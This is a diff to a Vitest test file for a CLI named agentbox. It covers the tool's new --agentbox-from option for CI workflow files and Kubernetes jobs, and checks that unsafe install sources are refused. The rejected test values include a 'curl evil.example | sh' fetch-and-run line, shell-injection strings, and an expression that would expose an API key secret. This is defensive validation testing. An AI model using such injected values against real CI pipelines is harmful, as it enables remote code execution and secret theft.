@@ -4,7 +4,7 @@ import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { GITHUB_WORKFLOW_FILE } from '../../src/engines/files.js';
 import { githubWorkflow } from '../../src/engines/github.js';
-import { GITLAB_JOB_FILE } from '../../src/engines/gitlab.js';
+import { GITLAB_JOB_FILE, gitlabJob } from '../../src/engines/gitlab.js';
 import { VERSION } from '../../src/version.js';
 import { agentbox } from '../helpers/cli.js';
 import { GIT_ENV, gitRepo, snapshotTree, type TestRepo } from '../helpers/git-repo.js';
@@ -18,17 +18,29 @@ function repo(): TestRepo {
   cleanups.push(() => r.cleanup());
   return r;
 }
-const env = (r: TestRepo) => ({ PATH: process.env.PATH, HOME: r.dir, ...GIT_ENV });
+/** No registry answers: a default install source is never found, and nothing reaches the network. */
+const env = (r: TestRepo) => ({
+  PATH: process.env.PATH,
+  HOME: r.dir,
+  ...GIT_ENV,
+  npm_config_registry: 'http://127.0.0.1:9/',
+  npm_config_fetch_retries: '0',
+  npm_config_update_notifier: 'false',
+});
+const FROM = 'https://files.example/agentbox-0.1.0.tgz';
 
 describe('agentbox init --ci', () => {
   it('github: writes the workflow with the setup; a second run changes no byte', async () => {
     const r = repo();
-    const first = await agentbox(['init', '--ci', 'github'], { cwd: r.dir, env: env(r) });
+    const first = await agentbox(['init', '--ci', 'github', '--agentbox-from', FROM], {
+      cwd: r.dir,
+      env: env(r),
+    });
     expect(first.stderr).toBe('');
     expect(first.code).toBe(0);
     expect(first.stdout).toContain(`wrote ${GITHUB_WORKFLOW_FILE}`);
     expect(first.stdout).toContain('docs/ci.md');
-    expect(r.read(GITHUB_WORKFLOW_FILE)).toBe(githubWorkflow(VERSION));
+    expect(r.read(GITHUB_WORKFLOW_FILE)).toBe(githubWorkflow(VERSION, FROM));
     expect(r.exists('.agents/runs')).toBe(true);
     const before = snapshotTree(r.dir, { skip: ['.git'] });
     const again = await agentbox(['init', '--ci', 'github'], { cwd: r.dir, env: env(r) });
@@ -41,21 +53,30 @@ describe('agentbox init --ci', () => {
     const r = repo();
     r.write(GITHUB_WORKFLOW_FILE, 'name: mine\n');
     const before = snapshotTree(r.dir, { skip: ['.git'] });
-    const refused = await agentbox(['init', '--ci', 'github'], { cwd: r.dir, env: env(r) });
+    const refused = await agentbox(['init', '--ci', 'github', '--agentbox-from', FROM], {
+      cwd: r.dir,
+      env: env(r),
+    });
     expect(refused.code).toBe(1);
     expect(refused.stderr).toContain(`${GITHUB_WORKFLOW_FILE} already exists`);
     expect(refused.stderr).toContain('agentbox init --ci github --force');
     // All or nothing: not even the ledger was created.
     expect(snapshotTree(r.dir, { skip: ['.git'] })).toEqual(before);
-    const forced = await agentbox(['init', '--ci', 'github', '--force'], { cwd: r.dir, env: env(r) });
+    const forced = await agentbox(['init', '--ci', 'github', '--force', '--agentbox-from', FROM], {
+      cwd: r.dir,
+      env: env(r),
+    });
     expect(forced.code).toBe(0);
     expect(forced.stdout).toContain(`replaced ${GITHUB_WORKFLOW_FILE}`);
-    expect(r.read(GITHUB_WORKFLOW_FILE)).toBe(githubWorkflow(VERSION));
+    expect(r.read(GITHUB_WORKFLOW_FILE)).toBe(githubWorkflow(VERSION, FROM));
   });
 
   it('gitlab: the job file, and a .gitlab-ci.yml that includes it when there is none', async () => {
     const r = repo();
-    const result = await agentbox(['init', '--ci', 'gitlab'], { cwd: r.dir, env: env(r) });
+    const result = await agentbox(['init', '--ci', 'gitlab', '--agentbox-from', FROM], {
+      cwd: r.dir,
+      env: env(r),
+    });
     expect(result.code).toBe(0);
     expect(r.read(GITLAB_JOB_FILE)).toContain('agentbox:');
     expect(r.read('.gitlab-ci.yml')).toContain(`- local: ${GITLAB_JOB_FILE}`);
@@ -64,7 +85,10 @@ describe('agentbox init --ci', () => {
   it("gitlab: a project's own .gitlab-ci.yml is left alone, and the include is named", async () => {
     const r = repo();
     r.write('.gitlab-ci.yml', 'test:\n  script: [npm test]\n');
-    const result = await agentbox(['init', '--ci', 'gitlab'], { cwd: r.dir, env: env(r) });
+    const result = await agentbox(['init', '--ci', 'gitlab', '--agentbox-from', FROM], {
+      cwd: r.dir,
+      env: env(r),
+    });
     expect(result.code).toBe(0);
     expect(r.read('.gitlab-ci.yml')).toBe('test:\n  script: [npm test]\n');
     expect(result.stdout).toContain(`include:\n      - local: ${GITLAB_JOB_FILE}`);
@@ -72,6 +96,73 @@ describe('agentbox init --ci', () => {
     const again = await agentbox(['init', '--ci', 'gitlab'], { cwd: r.dir, env: env(r) });
     expect(again.stdout).toContain('nothing changed');
     expect(again.stdout).not.toContain('include:');
+  });
+
+  it('without --agentbox-from and with no registry that has agentbox@<version>: stops, says what to pass, writes nothing', async () => {
+    const r = repo();
+    const before = snapshotTree(r.dir, { skip: ['.git', '.npm'] });
+    const result = await agentbox(['init', '--ci', 'github'], { cwd: r.dir, env: env(r) });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain(`agentbox@${VERSION} is not on the npm registry this machine uses`);
+    expect(result.stderr).toContain(`npm view agentbox@${VERSION} failed (ECONNREFUSED)`);
+    expect(result.stderr).toContain('agentbox init --ci github --agentbox-from <source>');
+    expect(result.stderr).toContain('git+https://');
+    expect(result.stderr).toContain('.tgz');
+    expect(snapshotTree(r.dir, { skip: ['.git', '.npm'] })).toEqual(before);
+  });
+
+  it('the source is recorded in the file: --force keeps it, --agentbox-from changes it', async () => {
+    const r = repo();
+    const other = 'git+https://git.example/team/agentbox.git#0123abc';
+    await agentbox(['init', '--ci', 'gitlab', '--agentbox-from', FROM], { cwd: r.dir, env: env(r) });
+    expect(r.read(GITLAB_JOB_FILE)).toContain(`# Installs agentbox from: ${FROM} (`);
+    expect(r.read(GITLAB_JOB_FILE)).toContain(`npm install --global --no-fund --no-audit '${FROM}'`);
+    r.write(GITLAB_JOB_FILE, `${r.read(GITLAB_JOB_FILE)}# my edit\n`);
+    const kept = await agentbox(['init', '--ci', 'gitlab', '--force'], { cwd: r.dir, env: env(r) });
+    expect(kept.code).toBe(0);
+    expect(kept.stdout).toContain(`CI runners install agentbox from ${FROM} (--agentbox-from changes it).`);
+    expect(r.read(GITLAB_JOB_FILE)).toBe(gitlabJob(VERSION, FROM));
+    const changed = await agentbox(['init', '--ci', 'gitlab', '--agentbox-from', other], {
+      cwd: r.dir,
+      env: env(r),
+    });
+    expect(changed.code).toBe(1);
+    expect(changed.stderr).toContain('--force');
+    await agentbox(['init', '--ci', 'gitlab', '--force', '--agentbox-from', other], {
+      cwd: r.dir,
+      env: env(r),
+    });
+    expect(r.read(GITLAB_JOB_FILE)).toBe(gitlabJob(VERSION, other));
+  });
+
+  it.each([
+    ['a newline', 'agentbox@0.1.0\ncurl evil.example | sh'],
+    ['a carriage return', 'agentbox@0.1.0\rx'],
+    ['a NUL', 'agentbox@0.1.0\u0000'],
+    ['a space', "agentbox@0.1.0'; touch pwned; '"],
+    ['a GitHub expression', `https://x.example/\${{secrets.ANTHROPIC_API_KEY}}.tgz`],
+    ['shell in a spec', 'agentbox@$(touch pwned)'],
+    ['a plain-http tarball', 'http://files.example/agentbox.tgz'],
+    ['a local path', './agentbox-0.1.0.tgz'],
+  ])('--agentbox-from with %s is refused, naming it, and nothing is written', async (_, value) => {
+    const r = repo();
+    const before = snapshotTree(r.dir, { skip: ['.git'] });
+    const result = await agentbox(['init', '--ci', 'github', '--agentbox-from', value], {
+      cwd: r.dir,
+      env: env(r),
+    });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('invalid --agentbox-from');
+    expect(result.stderr).toContain('agentbox@<version>');
+    expect(snapshotTree(r.dir, { skip: ['.git'] })).toEqual(before);
+  });
+
+  it('--agentbox-from without --ci is a usage error', async () => {
+    const r = repo();
+    const result = await agentbox(['init', '--agentbox-from', FROM], { cwd: r.dir, env: env(r) });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('--agentbox-from goes with --ci');
+    expect(r.exists('.agents')).toBe(false);
   });
 
   it('an unknown platform is a usage error', async () => {
@@ -110,6 +201,25 @@ describe('agentbox k8s job', () => {
     expect(vars.AGENTBOX_TASK).toBe('cache the lookup');
     expect(result.stderr).toContain('cloned over https instead of git@github.com:team/app.git');
     expect(result.stderr).toContain('is on no remote branch: push it first');
+  });
+
+  it("--agentbox-from: the pod installs it over the image's agentbox; a bad one is refused", async () => {
+    const r = withOrigin('https://git.example/team/app.git');
+    const spec = 'git+https://git.example/team/agentbox.git#0123abc';
+    const result = await agentbox(['k8s', 'job', 'fix', 'x', '--json', '--agentbox-from', spec], {
+      cwd: r.dir,
+      env: env(r),
+    });
+    expect(result.code).toBe(0);
+    const container = JSON.parse(result.stdout).spec.template.spec.containers[0];
+    expect(container.env).toContainEqual({ name: 'AGENTBOX_FROM', value: spec });
+    expect(container.command[2]).toContain('npm install --global --prefix "$HOME/.agentbox"');
+    const bad = await agentbox(['k8s', 'job', 'fix', 'x', '--agentbox-from', 'agentbox@1\nid'], {
+      cwd: r.dir,
+      env: env(r),
+    });
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toContain('invalid --agentbox-from');
   });
 
   it("asks git with the command's environment (its git config), not agentbox's own", async () => {
